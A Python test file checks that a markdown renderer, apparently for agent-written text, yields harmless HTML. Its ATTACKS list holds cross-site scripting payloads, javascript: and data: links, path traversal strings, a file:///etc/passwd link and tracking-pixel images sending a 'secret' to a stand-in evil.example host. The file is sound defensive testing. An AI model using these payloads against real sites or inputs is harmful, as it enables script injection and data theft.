"""What agents write becomes HTML that can do no harm."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tasks_app.pages.markdown import markdown

FILES = "/s/1/files/"
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><input></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://evil.example/pixel.png?secret)",
    "![x](//evil.example/pixel.png)",
    "![x](/accounts/logout/)",
    "![x](../../../2/files/theirs.png)",
    "![x](..%2f..%2f2/files/theirs.png)",
    "![x](a/%2e%2e/%2e%2e/secret.png)",
    '![x" onerror="alert(1)](a.png)',
    '![x](<a.png" onerror="alert(1)>)',
    '[x](<a" onmouseover="alert(1)>)',
    '[x](https://e.example "t\\" onclick=\\"alert(1)")',
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/admin/)",
    "[x](?delete=1)",
    "[x](http://[broken)",
    '```"onclick=alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '| " onfocus="alert(1) | <div tabindex=9 onfocus=alert(1)> |\n|---|:-:|\n| x | y |',
]
TAG = re.compile(r"<([a-z0-9]+)((?: [a-z-]+=\"[^\"]*\")*)>|</[a-z0-9]+>|<[a-z]+ ?/?>")
HARMLESS = re.compile(
    r' (href="(https?://|mailto:|/s/1/files/)[^"]*"|src="/s/1/files/[^"]*"|alt="[^"]*"|class="[a-z0-9 +#.-]*"'
    r'|aria-label="Table: [^"]*"|role="region"|tabindex="0"'
    r'|start="\d+"|rel="noopener noreferrer nofollow"|target="_blank"|loading="lazy")'
)


def require_harmless(html: str) -> None:
    """Every tag and every attribute is one of those that we know."""
    rest = html
    for tag in TAG.finditer(html):
        assert tag[1] not in ("script", "style", "iframe", "form", "svg", "object", "base", "meta", "input"), html
        assert HARMLESS.sub("", tag[2] or "") == "", html
        rest = rest.replace(tag[0], "", 1)
    assert "<" not in rest, html
    for address in re.findall(r'(?:href|src)="(/[^"]*)"', html):
        assert ".." not in address, html


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_becomes_text_or_nothing(text):
    require_harmless(markdown(text, FILES))
    require_harmless(markdown(text))


@given(st.lists(st.sampled_from([*ATTACKS, "[", "](", ")", "<", ">", '"', "`", "\n", "!", "&", ":", "x"]), max_size=8))
def test_no_mixture_of_attacks_is_harmful_either(pieces):
    require_harmless(markdown("".join(pieces), FILES))


def test_no_picture_is_fetched_from_elsewhere():
    html = markdown("![a chart](https://evil.example/pixel.png?secret)", FILES)
    assert "<img" not in html
    assert '<a href="https://evil.example/pixel.png?secret"' in html


def test_pictures_and_links_of_the_workspace_are_shown():
    html = markdown("![chart](out/chart.png) and [report](./my%20report.md)", FILES)
    assert 'src="/s/1/files/out/chart.png"' in html
    assert 'href="/s/1/files/my%20report.md"' in html


def test_a_drawing_that_may_hold_scripts_is_no_picture():
    assert "src=" not in markdown("![x](drawing.svg)", FILES)


def test_links_tell_nobody_where_they_were():
    html = markdown("[x](https://example.org/?a=1&b=2)")
    assert 'href="https://example.org/?a=1&amp;b=2"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_it_knows_tables_lists_code_and_strikethrough():
    html = markdown("| a |\n|---|\n| 1 |\n\n3. x\n\n~~no~~ `y`\n\n```python\nif 1: pass\n```")
    for piece in (
        '<td class="short">1</td>',
        '<ol start="3">',
        "<s>no</s>",
        "<code>y</code>",
        '<span class="k">if</span>',
    ):
        assert piece in html


def test_a_language_that_nobody_knows_is_plain_code():
    assert "<span" not in markdown("```klingon\nnuqneH\n```")
